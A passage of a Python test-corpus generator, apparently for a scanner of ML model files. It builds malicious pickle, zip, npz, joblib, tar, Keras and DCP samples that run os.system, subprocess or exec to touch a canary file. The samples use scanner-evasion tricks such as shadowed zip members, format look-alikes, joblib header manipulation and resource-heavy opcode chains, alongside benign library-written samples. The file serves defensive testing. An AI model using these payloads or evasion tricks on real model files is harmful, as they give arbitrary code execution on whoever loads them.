        "arrays.npz",
        "numpy.load",
        "npy",
        npz(
            lambda c: [("arr_0.npy", benign_npy()), ("metadata", _npy("'|O'", "(1,)", _pickle("subprocess.call", c.canary)))],
            zipfile.ZIP_STORED,
        ),
    )
    yield (
        "npz-member-odd-name",
        "arrays.npz",
        "numpy.load",
        "npy",
        npz(lambda c: [("sub/dir/ARR.NPY", _npy("[('x', 'O')]", "(1,)", _pickle("inst", c.canary, 0)))], zipfile.ZIP_DEFLATED),
    )
    yield (
        "npz-bzip2-object-member",
        "arrays.npz",
        "numpy.load",
        "npy",
        npz(lambda c: [("arr_0.npy", _npy("'|O'", "(1,)", _pickle("os.popen", c.canary)))], zipfile.ZIP_BZIP2),
    )

    # ---- zip ----
    yield (
        "zip-data-pkl-upper-case",
        "model.pt",
        "torch.load",
        "zip",
        lambda c: _zip(
            [
                (
                    n.replace("data.pkl", "DATA.PKL"),
                    _splice_after_proto(d, _stmt("posix.system", c.canary)) if n.endswith("data.pkl") else d,
                )
                for n, d in _members(c.base.torch_zip)
            ]
        ),
    )

    def shadowed(name: str, gadget: str) -> Callable[[_Ctx], bytes]:
        # a second data.pkl right after torch's own: miniz (torch's zip reader) finds names by a
        # case-insensitive binary search over a heap-sorted directory, and with this layout it
        # lands on the second one
        def make(c: _Ctx) -> bytes:
            members = _members(c.base.torch_zip)
            assert members[0][0] == "archive/data.pkl"
            evil = (name, _splice_after_proto(members[0][1], _stmt(gadget, c.canary)))
            return _zip([members[0], evil, *members[1:]])

        return make

    yield ("zip-data-pkl-case-shadow", "model.pt", "torch.load", "zip", shadowed("archive/DATA.PKL", "subprocess.check_call"))
    yield ("zip-duplicate-data-pkl", "model.pt", "torch.load", "zip", shadowed("archive/data.pkl", "builtins.exec"))

    def shifted(prefix: Callable[[_Ctx], bytes], gadget: str) -> Callable[[_Ctx], bytes]:
        # zipfile adds the bytes in front of the archive to every offset (it finds the central
        # directory from the end record); offsets read as written point into the prefix instead
        return lambda c: prefix(c) + _zip([("arr_0.npy", _npy("'|O'", "(1,)", _pickle(gadget, c.canary)))])

    def decoy(c: _Ctx) -> bytes:
        archive = _zip([("arr_0.npy", benign_npy())])
        return archive[: archive.rindex(b"PK\x01\x02")]  # its local header and data, no directory

    yield ("npz-decoy-local-header-shift", "arrays.npz", "numpy.load", "zip", shifted(decoy, "posix.system"))
    yield ("npz-prepended-bytes-shift", "arrays.npz", "numpy.load", "zip", shifted(lambda c: b"PK\x03\x04" + bytes(60), "subprocess.run"))
    yield (
        "zip-torch-archive-npy-member",
        "weights.npz",
        "numpy.load",
        "zip",
        lambda c: _zip([*_members(c.base.torch_zip), ("archive/extra.npy", _npy("'|O'", "(1,)", _pickle("io.open", c.canary)))]),
    )
    yield (
        "zip-torch-archive-numpy-magic-record",
        "weights.npz",
        "numpy.load",
        "zip",
        lambda c: _zip([*_members(c.base.torch_zip), ("archive/data/7", _npy("'O'", "(1,)", _pickle("os.system", c.canary)))]),
    )

    # ---- look-alikes and wrappers ----
    yield ("lookalike-pickle-named-npy", "arr.npy", "numpy.load", "lookalike", lambda c: _pickle("posix.system", c.canary))
    yield ("lookalike-pickle-named-npz", "arrays.npz", "numpy.load", "lookalike", lambda c: _pickle("subprocess.check_call", c.canary, 0))

    def safetensors_like(c: _Ctx) -> bytes:
        # bytes 0..7 read as a little-endian header length of 0x5455 (SHORT_BINSTRING, 0x54 = 84
        # bytes, then zeros) and byte 8 is "{": the start of a safetensors file. The C unpickler
        # reads a string, the payload, and stops; torch.load never got to check anything.
        text = b"\x00" * 6 + b'{"__metadata__":{"format":"pt"},"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4'
        text = text.ljust(0x54, b" ")
        body = b"U" + bytes([len(text)]) + text + b"0" + _pickle("builtins.exec", c.canary, 0)
        size = struct.unpack("<Q", body[:8])[0]
        return body + b" " * max(0, 8 + size - len(body)) + b"}}"

    yield ("lookalike-safetensors-header-pt", "model.pt", "torch.load", "lookalike", safetensors_like)

    def tar_like(c: _Ctx) -> bytes:
        # a ustar header's magic and fields, but a checksum tarfile rejects: torch.load falls back
        # to unpickling the file from its first byte
        head = bytearray(_tar([("pickle", b"")])[:512])
        payload = _pickle("os.system", c.canary, 0)
        assert len(payload) < 257, "canary path too long to keep the ustar magic"
        head[: len(payload)] = payload  # the name field (100 bytes) holds the pickle
        return bytes(head) + bytes(1024)

    yield ("lookalike-tar-header-pt", "model.pt", "torch.load", "lookalike", tar_like)
    yield (
        "lookalike-pickle-with-zip-appended",
        "model.pkl",
        "pickle.load",
        "lookalike",
        lambda c: _pickle("subprocess.getoutput", c.canary) + _zip([("weights.npy", benign_npy())]),
    )

    def joblib_object_array(c: _Ctx) -> bytes:
        # joblib stores an object array as a nested pickle right after its NumpyArrayWrapper's
        # BUILD, read by the C `pickle.load`; that nested pickle is replaced
        import joblib
        import numpy as np

        with tempfile.TemporaryDirectory() as tmp:
            target = Path(tmp) / "x.joblib"
            joblib.dump({"labels": np.array(["a", 1], dtype=object)}, target)
            data = target.read_bytes()
        start = _wrapper_build_end(data)
        end = _pickle_end(data, start)
        nested = b"\x80\x02" + _stmt("posix.system", c.canary) + _call(_g("numpy", "empty"), b"K\x00", _u("O")) + b"."
        return data[:start] + nested + data[end:]

    yield ("lookalike-joblib-object-array-nested-pickle", "model.joblib", "joblib.load", "lookalike", joblib_object_array)

    def joblib_hidden(c: _Ctx) -> bytes:
        # the wrapper's state says shape (1000,) float64 (8000 bytes of array data follow), then
        # sets shape again to (0,): joblib reads no data and unpickles what a scanner trusting the
        # first shape would skip as array bytes
        import numpy as np
        from joblib.numpy_pickle import NumpyArrayWrapper

        wrapper = NumpyArrayWrapper(np.ndarray, (1000,), "C", np.dtype("<f8"), allow_mmap=False)
        head = pickle.dumps(wrapper, protocol=2)
        assert head.endswith(b"ub.")
        return head[:-2] + _u("shape") + b"K\x00\x85s" + b"b" + b"\x00" + _stmt("subprocess.Popen", c.canary) + b"."

    yield ("lookalike-joblib-array-data-hides-opcodes", "model.joblib", "joblib.load", "lookalike", joblib_hidden)

    # ---- compressed pickles, as joblib.load decompresses them ----
    yield (
        "compressed-zlib-joblib",
        "model.joblib",
        "joblib.load",
        "compressed",
        lambda c: zlib.compress(_pickle("posix.system", c.canary, 4)),
    )
    yield (
        "compressed-gzip-pkl-gz",
        "model.pkl.gz",
        "joblib.load",
        "compressed",
        lambda c: gzip.compress(_pickle("subprocess.check_call", c.canary)),
    )
    yield (
        "compressed-zlib-pkl-z",
        "model.pkl.z",
        "joblib.load",
        "compressed",
        lambda c: zlib.compress(_pickle("builtins.exec", c.canary, 0), 9),
    )
    yield ("compressed-bz2-pkl-bz2", "model.pkl.bz2", "joblib.load", "compressed", lambda c: bz2.compress(_pickle("os.system", c.canary)))
    yield ("compressed-xz-pkl-xz", "model.pkl.xz", "joblib.load", "compressed", lambda c: lzma.compress(_pickle("io.open", c.canary, 3)))
    yield (
        "compressed-lzma-pkl-lzma",
        "model.pkl.lzma",
        "joblib.load",
        "compressed",
        lambda c: lzma.compress(_pickle("inst", c.canary, 0), format=lzma.FORMAT_ALONE),
    )
    yield (
        "compressed-gzip-named-joblib",
        "estimator.joblib",
        "joblib.load",
        "compressed",
        lambda c: gzip.compress(_pickle("joblib.dump", c.canary)),
    )
    # joblib tells compression by magic bytes, whatever the name (found by an attack on verify)
    yield (
        "compressed-zlib-named-txt",
        "model.txt",
        "joblib.load",
        "compressed",
        lambda c: zlib.compress(_pickle("posix.system", c.canary)),
    )
    yield (
        "compressed-gzip-named-json",
        "manifest.json",
        "joblib.load",
        "compressed",
        lambda c: gzip.compress(_pickle("subprocess.call", c.canary)),
    )
    yield ("lookalike-pickle-named-latest", "latest", "pickle.load", "lookalike", lambda c: _pickle("os.system", c.canary))
    yield ("lookalike-pickle-named-distcp", "__0_0.distcp", "pickle.load", "lookalike", lambda c: _pickle("builtins.exec", c.canary))

    def joblib_dtype_resized(c: _Ctx) -> bytes:
        # the wrapper's dtype is numpy.dtype('S8') whose BUILD state sets its size to 100: joblib
        # reads 100 bytes of array data, a scanner that sizes it by name reads 8, lands on a
        # BINBYTES that swallows the payload, and sees a clean stream (found by an attack on verify)
        import numpy as np
        from joblib.numpy_pickle import NumpyArrayWrapper

        class Resized:
            def __reduce__(self) -> tuple[Any, ...]:
                return (np.dtype, ("S8", False, True), (3, "|", None, None, None, 100, 1, 0))

        wrapper = NumpyArrayWrapper(np.ndarray, (1,), "C", np.dtype("f8"), allow_mmap=False, numpy_array_alignment_bytes=None)
        wrapper.dtype = Resized()
        pickled = pickle.dumps({"w": wrapper}, protocol=2)
        head, tail = pickled[:-2], pickled[-2:]  # ... BUILD | SETITEM STOP
        hidden = _stmt("posix.system", c.canary)
        raw = bytes(8) + b"B" + struct.pack("<I", 100 - 13 + len(hidden))
        return head + raw + bytes(100 - len(raw)) + hidden + tail

    yield ("lookalike-joblib-dtype-resized-by-state", "model.joblib", "joblib.load", "lookalike", joblib_dtype_resized)

    def joblib_zf_spaced(c: _Ctx) -> bytes:
        # joblib's old ZF format: the header, then one optional space joblib skips (found by an attack)
        payload = _pickle("posix.system", c.canary)
        return b"ZF" + (b"%#x" % len(payload)).ljust(19) + b" " + zlib.compress(payload)

    yield ("compressed-joblib-zf-spaced", "model.pkl", "joblib.load", "compressed", joblib_zf_spaced)

    def dcp_object(c: _Ctx) -> bytes:
        # a DCP checkpoint whose state dict holds an object: dcp.save torch.saves it into the
        # .distcp file, and dcp.load reads it back with torch.load(weights_only=False) at the
        # offset .metadata gives (found by an attack on verify)
        import torch
        import torch.distributed.checkpoint as dcp

        class Hook:
            def __reduce__(self) -> tuple[Any, ...]:
                return (os.system, (_touch(c.canary),))

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            dcp.save({"model": {"w": torch.ones(4, 4)}, "hook": Hook()}, checkpoint_id=str(c.path.parent))
        return c.path.read_bytes()

    yield ("dcp-object-in-data-file", ".metadata", "dcp.load", "dcp", dcp_object)

    # ---- resources: cheap for the unpickler, costly for a careless scanner ----
    yield (
        "resources-memo-tuple-40-levels",
        "model.pt",
        "torch.load",
        "resources",
        lambda c: c.base.zip_with_data_pkl(
            lambda d: _add_setitem(
                _splice_after_proto(d, _memo_tuples(40) + _stmt("posix.system", c.canary)), "t", b"j" + struct.pack("<I", 1000 + 40)
            )
        ),
    )
    yield (
        "resources-mark-pop-chain",
        "data.pkl",
        "pickle.load",
        "resources",
        lambda c: b"\x80\x02" + b"(0" * 200_000 + _pickle("subprocess.call", c.canary, 0),
    )
    yield (
        "resources-deep-marks",
        "data.pkl",
        "pickle.load",
        "resources",
        lambda c: b"\x80\x02" + b"(" * 100_000 + b"1" * 100_000 + _pickle("os.system", c.canary, 0),
    )
    yield (
        "resources-many-memo-entries",
        "data.pkl",
        "pickle.load",
        "resources",
        lambda c: b"\x80\x04" + b"N\x940" * 200_000 + _pickle("builtins.open", c.canary, 0),
    )
    yield (
        "resources-deep-list-nesting",
        "data.pkl",
        "pickle.load",
        "resources",
        lambda c: b"\x80\x02" + b"]" * 50_000 + b"a" * 49_999 + b"0" + _pickle("posix.open", c.canary, 0),
    )

    # ---- set-up classes reached through containers ----
    attr_dict = _g("lightning.fabric.utilities.data", "AttributeDict")

    def partial(fn: bytes, *args: bytes) -> bytes:
        return _call(_g("functools", "partial"), fn, *args)

    def torch_pickle(c: _Ctx, items: bytes) -> bytes:
        return c.base.zip_with_data_pkl(lambda d: b"\x80\x02}(" + items + b"u.")

    # torch._utils._rebuild_parameter(data, ...) -> Parameter(data) -> data.detach(): on an
    # AttributeDict, __getattr__ returns its item "detach", called with no arguments
    yield (
        "setup-attributedict-parameter-detach",
        "last.ckpt",
        "torch.load",
        "setup-class",
        lambda c: torch_pickle(
            c,
            _u("hparams")
            + _call0(attr_dict)
            + _u("detach")
            + partial(_g("posix", "system"), _u(_touch(c.canary)))
            + b"sq\xc8"
            + _u("param")
            + _call(_g("torch._utils", "_rebuild_parameter"), b"h\xc8", b"\x89", _call0(_g("collections", "OrderedDict"))),
        ),
    )
    # the same through a TrainingArguments instance whose __dict__ holds "detach"
    training_args = _call(
        _g("copyreg", "_reconstructor"), _g("transformers.training_args", "TrainingArguments"), _g("builtins", "object"), b"N"
    )
    yield (
        "setup-training-args-parameter-detach",
        "training_args.bin",
        "torch.load",
        "setup-class",
        lambda c: torch_pickle(
            c,
            _u("args")
            + training_args
            + b"}("
            + _u("output_dir")
            + _u("out")
            + _u("detach")
            + partial(_g("subprocess", "check_call"), _list(_u("touch"), _u(c.canary)))
            + b"ubq\xc8"
            + _u("param")
            + _call(_g("torch._utils", "_rebuild_parameter"), b"h\xc8", b"\x88", _call0(_g("collections", "OrderedDict"))),
        ),
    )
    # torch._tensor._rebuild_from_type_v2(AttributeDict, new_type, (items,), {}) builds the
    # AttributeDict, then calls its "as_subclass" item with new_type (here a shell command)
    yield (
        "setup-attributedict-rebuild-from-type",
        "epoch=3-step=100.ckpt",
        "torch.load",
        "setup-class",
        lambda c: torch_pickle(
            c,
            _u("hyper_parameters")
            + _call(
                _g("torch._tensor", "_rebuild_from_type_v2"),
                attr_dict,
                _u(_touch(c.canary)),
                b"(](" + _u("as_subclass") + _g("subprocess", "getoutput") + b"tat",
                b"}",
            ),
        ),
    )
    # a Seq2SeqTrainingArguments' generation_config as an AttributeDict, its "detach" reached the same way
    seq2seq = _call(
        _g("copyreg", "_reconstructor"),
        _g("transformers.training_args_seq2seq", "Seq2SeqTrainingArguments"),
        _g("builtins", "object"),
        b"N",
    )
    yield (
        "setup-seq2seq-args-nested-attributedict",
        "training_args.bin",
        "torch.load",
        "setup-class",
        lambda c: torch_pickle(
            c,
            _u("args")
            + seq2seq
            + b"}("
            + _u("generation_config")
            + _call0(attr_dict)
            + _u("detach")
            + partial(_g("builtins", "exec"), _u(_create_code(c.canary)))
            + b"sq\xc9ub"
            + _u("param")
            + _call(_g("torch._utils", "_rebuild_parameter"), b"h\xc9", b"\x89", _call0(_g("collections", "OrderedDict"))),
        ),
    )

    # ---- issue 31, item 1: a Keras TorchModuleWrapper's `module` config field, base64 of a torch.save
    # file that load_model(safe_mode=False) hands to torch.load(weights_only=False) ----
    if _installed("keras") and _installed("h5py"):
        yield (
            "keras-torch-module-wrapper-config",
            "model.keras",
            "keras.load_model",
            "keras-config",
            lambda c: _keras_archive(c.base.zip_with_data_pkl(lambda _: _pickle("posix.system", c.canary))),
        )
        yield (
            "keras-torch-module-wrapper-config-junk-characters",
            "model.keras",
            "keras.load_model",
            "keras-config",
            lambda c: _keras_archive(c.base.legacy_with(3, lambda _: _pickle("builtins.exec", c.canary)), junk=True),
        )

    # ---- issue 31, items 2 and 5: compressions and archives a loader infers from the name ----
    def evil_torch_zip(c: _Ctx) -> bytes:
        return c.base.zip_with_data_pkl(lambda d: _splice_after_proto(d, _stmt("posix.system", c.canary)))

    if shutil.which("zstd"):
        # a Composer save folder's `*.pt.zst`, compressed by `zstd` as Composer's CliCompressor does
        yield (
            "compressed-composer-pt-zst",
            "ep1-ba4-rank0.pt.zst",
            "composer.load",
            "compressed",
            lambda c: _cli_compressed("zstd", evil_torch_zip(c)),
        )
    if _installed("zstandard"):  # pandas decompresses `.zst` with it
        yield (
            "compressed-pandas-pkl-zst",
            "frame.pkl.zst",
            "pandas.read_pickle",
            "compressed",
            # framed, as pickle.dumps writes it: pandas' zstandard reader cannot `peek`, which an unframed load asks for
            lambda c: _zstd_stream([_framed(GADGETS["posix.system"](c.canary) + b".")]),
        )
    yield (
        "tar-pandas-pkl-tar",
        "frame.pkl.tar",
        "pandas.read_pickle",
        "tar",
        lambda c: _tarfile([("frame.pkl", _pickle("posix.system", c.canary))], "w"),
    )
    yield (
        "tar-nemo-gzipped-bare-names",
        "model.nemo",
        "nemo.restore",
        "tar",
        lambda c: _tarfile([("model_config.yaml", b"target: x\n"), ("model_weights.ckpt", evil_torch_zip(c))], "w:gz"),
    )


def _memo_tuples(levels: int) -> bytes:
    """x0 = (); x(i+1) = (xi, xi), each level from the memo: 2**levels leaves if expanded."""
    out = b")r" + struct.pack("<I", 1000)
    for i in range(levels):
        get = b"j" + struct.pack("<I", 1000 + i)
        out += get + get + b"\x86r" + struct.pack("<I", 1001 + i)
    return out + b"0"


def _wrapper_build_end(data: bytes) -> int:
    """Offset just past the BUILD that closes joblib's first NumpyArrayWrapper."""
    seen_wrapper = False
    previous = ""
    for op, arg, pos in pickletools.genops(data):
        if arg == "NumpyArrayWrapper":
            seen_wrapper = True
        if seen_wrapper and op.name == "BUILD" and previous == "SETITEMS":
            return pos + 1
        previous = op.name
    raise ValueError("no NumpyArrayWrapper")


# --------------------------------------------------------------------------------------------
# the benign samples: every byte written by the library
# --------------------------------------------------------------------------------------------

_BenignSpec = tuple[str, str, str, str, Callable[[Path], None]]


def _benign_specs() -> Iterator[_BenignSpec]:
    import joblib
    import numpy as np
    import torch

    def model() -> torch.nn.Module:
        torch.manual_seed(0)
        return torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))

    def stepped(opt_cls: type[torch.optim.Optimizer], **kw: Any) -> tuple[torch.nn.Module, torch.optim.Optimizer]:
        net = model()
        opt = opt_cls(net.parameters(), **kw)
        net(torch.ones(2, 4)).sum().backward()
        opt.step()
        return net, opt

    def tsave(obj: Callable[[], Any], **kw: Any) -> Callable[[Path], None]:
        return lambda p: torch.save(obj(), p, **kw)

    legacy = {"_use_new_zipfile_serialization": False}
    yield ("torch-state-dict", "model.pt", "torch.load", "torch", tsave(lambda: model().state_dict()))
    yield ("torch-state-dict-protocol-4", "model.pt", "torch.load", "torch", tsave(lambda: model().state_dict(), pickle_protocol=4))
    yield ("torch-state-dict-protocol-3", "model.pt", "torch.load", "torch", tsave(lambda: model().state_dict(), pickle_protocol=3))
    yield ("torch-state-dict-protocol-5", "model.pt", "torch.load", "torch", tsave(lambda: model().state_dict(), pickle_protocol=5))
    yield ("torch-pytorch-model-bin", "pytorch_model.bin", "torch.load", "torch", tsave(lambda: model().state_dict()))
    yield ("torch-adam-optimizer", "optimizer.pt", "torch.load", "torch", tsave(lambda: stepped(torch.optim.Adam, lr=1e-3)[1].state_dict()))
    yield (
        "torch-sgd-momentum-optimizer",
        "optimizer.pt",
        "torch.load",
        "torch",
        tsave(lambda: stepped(torch.optim.SGD, lr=0.1, momentum=0.9)[1].state_dict()),
    )

    def scheduler() -> dict[str, Any]:
        _net, opt = stepped(torch.optim.AdamW, lr=1e-3)
        sched = torch.optim.lr_scheduler.StepLR(opt, step_size=2)
        opt.step()
        sched.step()
        return sched.state_dict()

    yield ("torch-step-lr-scheduler", "scheduler.pt", "torch.load", "torch", tsave(scheduler))

    def full_checkpoint() -> dict[str, Any]:
        net, opt = stepped(torch.optim.Adam, lr=1e-3)
        sched = torch.optim.lr_scheduler.CosineAnnealingLR(opt, T_max=10)
        return {
            "epoch": 3,
            "model_state_dict": net.state_dict(),
            "optimizer_state_dict": opt.state_dict(),
            "scheduler": sched.state_dict(),
            "loss": 0.25,
            "best_metric": None,
        }

    yield ("torch-full-checkpoint", "checkpoint.pth", "torch.load", "torch", tsave(full_checkpoint))
    yield ("torch-full-checkpoint-protocol-4", "checkpoint.pth", "torch.load", "torch", tsave(full_checkpoint, pickle_protocol=4))
    yield ("torch-legacy-state-dict", "model.pt", "torch.load", "torch", tsave(lambda: model().state_dict(), **legacy))
    yield (
        "torch-legacy-optimizer",
        "optimizer.pt",
        "torch.load",
        "torch",
        tsave(lambda: stepped(torch.optim.Adam, lr=1e-3)[1].state_dict(), **legacy),
    )
    yield ("torch-legacy-full-checkpoint", "checkpoint.pth", "torch.load", "torch", tsave(full_checkpoint, **legacy))
    yield ("torch-legacy-protocol-4", "model.pt", "torch.load", "torch", tsave(lambda: model().state_dict(), pickle_protocol=4, **legacy))

    def scripted(p: Path) -> None:
        torch.jit.save(torch.jit.script(model()), str(p))

    yield ("torch-jit-script", "model.pt", "torch.load", "torch", scripted)

    def dtypes() -> dict[str, Any]:
        kinds = [
            torch.float32,
            torch.float64,
            torch.float16,
            torch.bfloat16,
            torch.int8,
            torch.uint8,
            torch.int16,
            torch.int32,
            torch.int64,
            torch.bool,
            torch.complex64,
        ]
        return {str(k).removeprefix("torch."): torch.arange(6).reshape(2, 3).to(k) for k in kinds}

    yield ("torch-many-dtypes", "tensors.pt", "torch.load", "torch", tsave(dtypes))

    def views() -> dict[str, Any]:
        base = torch.arange(24.0).reshape(4, 6)
        return {
            "base": base,
            "row": base[1],
            "col": base[:, 2],
            "t": base.t(),
            "slice": base[1:3, 2:5],
            "channels_last": torch.ones(1, 3, 2, 2).to(memory_format=torch.channels_last),
            "empty": torch.empty(0),
            "scalar": torch.tensor(3.5),
        }

    yield ("torch-shared-views", "views.pt", "torch.load", "torch", tsave(views))
    yield (
        "torch-parameters",
        "params.pt",
        "torch.load",
        "torch",
        tsave(
            lambda: {
                "p": torch.nn.Parameter(torch.ones(3)),
                "frozen": torch.nn.Parameter(torch.ones(2), requires_grad=False),
                "grad": torch.ones(2, requires_grad=True),
            }
        ),
    )
    yield (
        "torch-sparse-coo",
        "sparse.pt",
        "torch.load",
        "torch",
        tsave(lambda: {"s": torch.eye(4).to_sparse(), "csr": torch.eye(3).to_sparse_csr()}),
    )
    yield (
        "torch-quantized",
        "quantized.pt",
        "torch.load",
        "torch",
        tsave(lambda: {"q": torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.quint8)}),
    )

    def containers() -> dict[str, Any]:
        from collections import OrderedDict

        return {
            "epoch": 3,
            "lr": 1e-3,
            "names": ["a", "b"],
            "shape": torch.Size([2, 3]),
            "dtype": torch.float16,
            "device": torch.device("cpu"),
            "set": {1, 2},
            "bytes": b"xy",
            "none": None,
            "complex": 1 + 2j,
            "ordered": OrderedDict(a=torch.ones(1)),
            "tuple": (1, (2, 3)),
            "big": 2**80,
        }

    yield ("torch-containers", "meta.pt", "torch.load", "torch", tsave(containers))

    def rng_state() -> dict[str, Any]:
        # what transformers' Trainer._save_rng_state writes
        import random

        return {"python": random.getstate(), "numpy": np.random.get_state(), "cpu": torch.random.get_rng_state()}

    yield ("torch-hf-rng-state", "rng_state.pth", "torch.load", "torch", tsave(rng_state))
    yield ("torch-numpy-generator", "generator.pt", "torch.load", "torch", tsave(lambda: np.random.default_rng(0)))
    yield (
        "torch-numpy-random-state",
        "random_state.pt",
        "torch.load",
        "torch",
        tsave(lambda: {"rs": np.random.RandomState(0), "seed": np.random.SeedSequence(1)}),
    )

    # ---- numpy ----
    def npsave(arr: Callable[[], Any]) -> Callable[[Path], None]:
        return lambda p: np.save(p, arr())

    yield ("numpy-float32", "arr.npy", "numpy.load", "numpy", npsave(lambda: np.linspace(0, 1, 12, dtype=np.float32).reshape(3, 4)))
    yield ("numpy-int64", "arr.npy", "numpy.load", "numpy", npsave(lambda: np.arange(10, dtype=np.int64)))
    yield ("numpy-bool", "mask.npy", "numpy.load", "numpy", npsave(lambda: np.array([True, False, True])))
    yield ("numpy-complex128", "arr.npy", "numpy.load", "numpy", npsave(lambda: np.array([1 + 2j, 3 - 4j])))
    yield (
        "numpy-datetime64",
        "times.npy",
        "numpy.load",
        "numpy",
        npsave(lambda: np.array(["2024-01-01", "2024-06-30T12:00"], dtype="datetime64[s]")),
    )
    yield ("numpy-timedelta64", "durations.npy", "numpy.load", "numpy", npsave(lambda: np.array([1, 2], dtype="timedelta64[ms]")))
    yield ("numpy-unicode", "labels.npy", "numpy.load", "numpy", npsave(lambda: np.array(["cat", "dög", "🦀"])))
    yield ("numpy-bytes", "tokens.npy", "numpy.load", "numpy", npsave(lambda: np.array([b"ab", b"c\x00d"])))
    yield (
        "numpy-structured",
        "records.npy",
        "numpy.load",
        "numpy",
        npsave(lambda: np.array([(1, 2.0, b"x"), (3, 4.0, b"y")], dtype=[("id", "<i4"), ("v", "<f8"), ("tag", "S1")])),
    )
    yield (
        "numpy-nested-structured",
        "records.npy",
        "numpy.load",
        "numpy",
        npsave(lambda: np.zeros(2, dtype=[("a", "<f4", (2,)), ("b", [("c", "<i2"), ("d", "u1")])])),
    )
    yield ("numpy-0d-float16", "scalar.npy", "numpy.load", "numpy", npsave(lambda: np.array(1.5, dtype=np.float16)))
    yield ("numpy-fortran-order", "arr.npy", "numpy.load", "numpy", npsave(lambda: np.asfortranarray(np.arange(6.0).reshape(2, 3))))
    yield ("numpy-big-endian", "arr.npy", "numpy.load", "numpy", npsave(lambda: np.arange(5, dtype=">f4")))
    yield (
        "numpy-savez",
        "arrays.npz",
        "numpy.load",
        "numpy",
        lambda p: np.savez(p, np.ones(3), weights=np.arange(4.0), mask=np.array([True]), when=np.array(["2024-01-01"], dtype="M8[D]")),
    )
    yield (
        "numpy-savez-compressed",
        "arrays.npz",
        "numpy.load",
        "numpy",
        lambda p: np.savez_compressed(p, a=np.zeros((64, 64)), b=np.array(["x", "y"]), c=np.array(2.5, dtype=np.float16)),
    )

    # ---- stdlib pickle of numpy objects ----
    def pdump(obj: Callable[[], Any], protocol: int | None = None) -> Callable[[Path], None]:
        def write(p: Path) -> None:
            with p.open("wb") as f:
                pickle.dump(obj(), f, protocol=protocol)

        return write

    yield ("pickle-numpy-default-rng", "rng.pkl", "pickle.load", "pickle", pdump(lambda: np.random.default_rng(0)))
    yield ("pickle-numpy-seed-sequence", "seed.pkl", "pickle.load", "pickle", pdump(lambda: np.random.SeedSequence(12345)))
    yield ("pickle-numpy-random-state", "random_state.pkl", "pickle.load", "pickle", pdump(lambda: np.random.RandomState(7)))
    yield ("pickle-numpy-get-state", "np_state.pkl", "pickle.load", "pickle", pdump(lambda: np.random.get_state(), 2))
    yield ("pickle-ndarray-protocol-5", "arr.pkl", "pickle.load", "pickle", pdump(lambda: np.arange(12.0).reshape(3, 4), 5))
    yield ("pickle-ndarray-protocol-2", "arr.pkl", "pickle.load", "pickle", pdump(lambda: np.arange(3, dtype=np.int16), 2))

    # ---- joblib ----
    arrays = {"w": np.arange(100.0).reshape(10, 10), "b": np.zeros(10, dtype=np.float32), "ids": np.arange(5)}

    def jdump(obj: Any, **kw: Any) -> Callable[[Path], None]:
        return lambda p: joblib.dump(obj, p, **kw)

    yield ("joblib-array", "model.joblib", "joblib.load", "joblib", jdump(np.arange(1000.0)))
    yield ("joblib-array-compress-3", "model.joblib", "joblib.load", "joblib", jdump(np.arange(1000.0), compress=3))
    yield ("joblib-zlib", "model.pkl.z", "joblib.load", "joblib", jdump(np.arange(1000.0), compress=("zlib", 3)))
    yield ("joblib-gzip", "model.pkl.gz", "joblib.load", "joblib", jdump(np.arange(1000.0), compress=("gzip", 3)))
    yield ("joblib-bz2", "model.pkl.bz2", "joblib.load", "joblib", jdump(np.arange(1000.0), compress=("bz2", 3)))
    yield ("joblib-lzma", "model.pkl.lzma", "joblib.load", "joblib", jdump(np.arange(1000.0), compress=("lzma", 3)))
    yield ("joblib-xz", "model.pkl.xz", "joblib.load", "joblib", jdump(np.arange(1000.0), compress=("xz", 3)))
    yield ("joblib-dict-of-arrays", "arrays.pkl", "joblib.load", "joblib", jdump(arrays))
    yield ("joblib-plain-dict-compress-3", "model.joblib", "joblib.load", "joblib", jdump({"a": 1, "b": [2.0]}, compress=3))
    yield ("joblib-plain-dict-pkl-gz", "model.pkl.gz", "joblib.load", "joblib", jdump({"a": 1}))
    records = np.zeros(3, dtype=[("a", "i4"), ("b", "f8")])
    yield (
        "joblib-records-and-objects",
        "table.joblib",
        "joblib.load",
        "joblib",
        jdump(
            {
                "records": records,
                "labels": np.array(["cat", 1, None], dtype=object),
                "mixed": np.array([(1, "x")], dtype=[("a", "i4"), ("b", "O")]),
            }
        ),
    )
    yield (
        "joblib-records-and-objects-compressed",
        "table.pkl.xz",
        "joblib.load",
        "joblib",
        jdump({"records": records, "labels": np.array(["cat", "dog"], dtype=object)}, compress=("xz", 3)),
    )
    yield ("joblib-masked-array", "masked.joblib", "joblib.load", "joblib", jdump(np.ma.masked_array([1.0, 2.0], mask=[0, 1])))
    yield (
        "joblib-mixed-dtypes",
        "data.joblib",
        "joblib.load",
        "joblib",
        jdump([np.arange(3, dtype=np.int8), np.ones((2, 2), order="F"), np.array(["a", "bc"]), 3.5, "text"]),
    )

    # ---- torch.distributed.checkpoint ----
    def dcp_save(p: Path) -> None:
        import torch.distributed.checkpoint as dcp

        dcp.save({"model": {"w": torch.ones(4, 4)}, "step": 5, "config": {"lr": 0.1, "name": "run"}}, checkpoint_id=str(p.parent))

    yield ("dcp-checkpoint-with-objects", ".metadata", "dcp.load", "torch", dcp_save)

    # ---- safetensors ----
    if _installed("safetensors"):

        def safetensors_torch(p: Path) -> None:
            import safetensors.torch

            safetensors.torch.save_file(model().state_dict(), str(p), metadata={"format": "pt"})

        def safetensors_numpy(p: Path) -> None:
            import safetensors.numpy

            safetensors.numpy.save_file({"a": np.ones(3, dtype=np.float32)}, str(p))

        yield ("safetensors-torch", "model.safetensors", "torch.load", "safetensors", safetensors_torch)
        yield ("safetensors-numpy", "arrays.safetensors", "torch.load", "safetensors", safetensors_numpy)

    # ---- transformers: training_args.bin as Trainer writes it (torch.save(self.args, ...)) ----
    if _installed("transformers"):

        def training_args(p: Path) -> None:
            from transformers import TrainingArguments

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                args = TrainingArguments(output_dir=str(p.parent / "out"), report_to=[], learning_rate=3e-5)
            torch.save(args, p)

        def seq2seq_args(p: Path) -> None:
            from transformers import GenerationConfig, Seq2SeqTrainingArguments

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                args = Seq2SeqTrainingArguments(
                    output_dir=str(p.parent / "out"),
                    report_to=[],
                    predict_with_generate=True,
                    generation_config=GenerationConfig(max_length=32, num_beams=2),
                )
